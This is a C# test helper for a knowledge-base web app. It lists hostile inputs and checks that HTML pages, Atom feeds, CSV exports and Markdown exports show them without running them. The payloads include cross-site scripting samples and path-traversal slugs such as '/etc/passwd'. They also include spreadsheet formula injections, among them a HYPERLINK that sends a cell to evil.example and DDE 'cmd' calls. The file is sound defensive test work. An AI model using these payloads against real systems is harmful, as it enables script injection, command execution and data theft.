using System.Globalization;
using System.Xml.Linq;
using AngleSharp.Dom;
using CsvHelper;
using KnowledgeBase.Web.Tests.Stacks;

namespace KnowledgeBase.Web.Tests.Security;

/// <summary>One hostile value, named for the test list; <paramref name="Refused"/> when no form may store it at all.</summary>
public sealed record HostilePayload(string Name, string Text, bool Refused = false)
{
    public override string ToString() => Name;
}

/// <summary>
/// The hostile values every stored text field is given (declared once), the hostile slugs every slug is given, and
/// the checks that a page, a feed, a spreadsheet or a Markdown export shows them without running them.
/// </summary>
public static class HostilePayloads
{
    /// <summary>What each script would do if it ran: the inertness checks look for it.</summary>
    public const string Marker = "kb-hostile";

    public static readonly HostilePayload[] All =
    [
        new("script tag", $"<script>alert('{Marker}')</script>"),
        new("event handler", $"<img src=x onerror=alert('{Marker}')>"),
        new("attribute break-out", $"\" autofocus onfocus=\"alert('{Marker}')\" x=\""),
        new("javascript URL", $"javascript:alert('{Marker}')"),
        new("javascript URL in disguise", $" JaVa\tScRiPt:alert('{Marker}')"),
        new("data URL", "data:text/html;base64,PHNjcmlwdD5hbGVydCgna2ItaG9zdGlsZScpPC9zY3JpcHQ+"),
        new("SVG with script", $"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert('{Marker}')\"><script>alert('{Marker}')</script></svg>"),
        new("Markdown javascript link", $"[click](javascript:alert('{Marker}')) and <javascript:alert('{Marker}')>"),
        new("Markdown data link", $"[click](data:text/html,%3Cscript%3Ealert('{Marker}')%3C/script%3E) ![img](data:image/svg+xml,%3Csvg%20onload=alert('{Marker}')%3E)"),
        new("formula =", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
        new("formula +", "+1+cmd|' /C calc'!A0"),
        new("formula -", "-1+cmd|' /C calc'!A0"),
        new("formula @", "@SUM(1+1)*cmd|' /C calc'!A0"),
        // No text field holds one: XML cannot carry them (the Atom feed) and the YAML parser stops at a NUL.
        new("control characters", "bell\u0007 escape\u001b vertical tab\u000b", Refused: true),
    ];

    /// <summary>Hostile slugs, as typed into a slug field (a route gets them percent-encoded).</summary>
    public static readonly HostilePayload[] Slugs =
    [
        new("dot-dot slash", "../hostile-escape"),
        new("encoded dot-dot slash", "..%2fhostile-escape"),
        new("double-encoded dot-dot slash", "..%252fhostile-escape"),
        new("NUL", "hostile\0escape"),
        new("encoded NUL", "hostile%00escape"),
        new("backslashes", "..\\..\\hostile-escape"),
        new("absolute path", "/etc/passwd"),
        new("device name", "con"),
        new("very long", new string('a', 5_000)),
        new("one over the slug limit", new string('a', Storage.FieldLimits.Slug + 1)),
    ];

    /// <summary>Schemes a link from user input must never carry.</summary>
    private static readonly string[] BadSchemes = ["javascript:", "data:", "vbscript:"];

    private static readonly string[] UrlAttributes = ["href", "src", "action", "formaction", "xlink:href", "poster", "data", "srcdoc"];

    /// <summary>
    /// The HTML holds no markup that runs: no script but the site's own (external, from this site), no event-handler
    /// attribute, no link or source with a script or data scheme, no frame, object or meta refresh.
    /// </summary>
    public static void AssertInert(string html, string where)
    {
        var document = StackForms.Parse(html);
        Assert.Multiple(() =>
        {
            foreach (var script in document.QuerySelectorAll("script"))
                Assert.That(script.GetAttribute("src") is { } src && src.StartsWith('/') && !src.StartsWith("//", StringComparison.Ordinal) && script.TextContent.Trim().Length == 0,
                    Is.True, $"{where}: a script that is not the site's own: {script.OuterHtml}");
            foreach (var element in document.All)
                foreach (var attribute in element.Attributes)
                {
                    Assert.That(attribute.Name, Does.Not.StartWith("on"), $"{where}: an event handler on <{element.LocalName}>: {Clip(element.OuterHtml)}");
                    if (UrlAttributes.Contains(attribute.Name, StringComparer.OrdinalIgnoreCase))
                        Assert.That(HasBadScheme(attribute.Value), Is.False, $"{where}: {attribute.Name}=\"{Clip(attribute.Value)}\" on <{element.LocalName}>");
                }
            Assert.That(document.QuerySelectorAll("iframe, frame, object, embed, base, meta[http-equiv]").Select(e => e.OuterHtml), Is.Empty, $"{where}: a frame, object, base or meta refresh");
            Assert.That(html, Does.Not.Contain($"alert('{Marker}')</script>").IgnoreCase.And.Not.Contain("<script>alert").IgnoreCase, $"{where}: unescaped script text");
        });
    }

    /// <summary>The Atom feed is well-formed XML, and every text in it is text: nothing that a reader would render as markup.</summary>
    public static void AssertInertFeed(string xml, string where)
    {
        XDocument feed;
        try
        {
            feed = XDocument.Parse(xml);
        }
        catch (System.Xml.XmlException ex)
        {
            Assert.Fail($"{where}: not well-formed XML: {ex.Message}");
            return;
        }
        XNamespace atom = "http://www.w3.org/2005/Atom";
        Assert.Multiple(() =>
        {
            Assert.That(feed.Descendants().Where(e => e.Name.Namespace != atom).Select(e => e.Name.ToString()), Is.Empty, $"{where}: markup outside Atom");
            foreach (var text in feed.Descendants().Where(e => e.Attribute("type") is not null))
                Assert.That(text.Attribute("type")!.Value, Is.EqualTo("text"), $"{where}: {text.Name.LocalName} is rendered as markup");
            foreach (var link in feed.Descendants(atom + "link"))
                Assert.That(HasBadScheme(link.Attribute("href")?.Value ?? ""), Is.False, $"{where}: link {link}");
        });
    }

    /// <summary>No cell of the CSV would be taken for a formula when the file is opened in a spreadsheet.</summary>
    public static void AssertNoFormulaCells(string csvText, string where)
    {
        using var reader = new StringReader(csvText);
        using var csv = new CsvParser(reader, CultureInfo.InvariantCulture);
        var line = 0;
        Assert.Multiple(() =>
        {
            while (csv.Read())
            {
                line++;
                foreach (var cell in csv.Record!)
                    Assert.That(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', Is.False, $"{where}: row {line} has a formula cell: {Clip(cell)}");
            }
        });
    }

    /// <summary>A Markdown export, rendered as a forge renders it (raw HTML passed through), holds nothing that runs.</summary>
    public static void AssertInertMarkdown(string markdown, string where) =>
        AssertInert(Markdig.Markdown.ToHtml(markdown, Markdig.MarkdownExtensions.UseAdvancedExtensions(new Markdig.MarkdownPipelineBuilder()).Build()), where + " rendered as Markdown");

    private static bool HasBadScheme(string value)
    {
        var compact = new string(value.Where(c => !char.IsControl(c) && !char.IsWhiteSpace(c)).ToArray());
        return BadSchemes.Any(s => compact.StartsWith(s, StringComparison.OrdinalIgnoreCase));
    }

    private static string Clip(string text) => text.Length <= 200 ? text : text[..200] + "…";
}
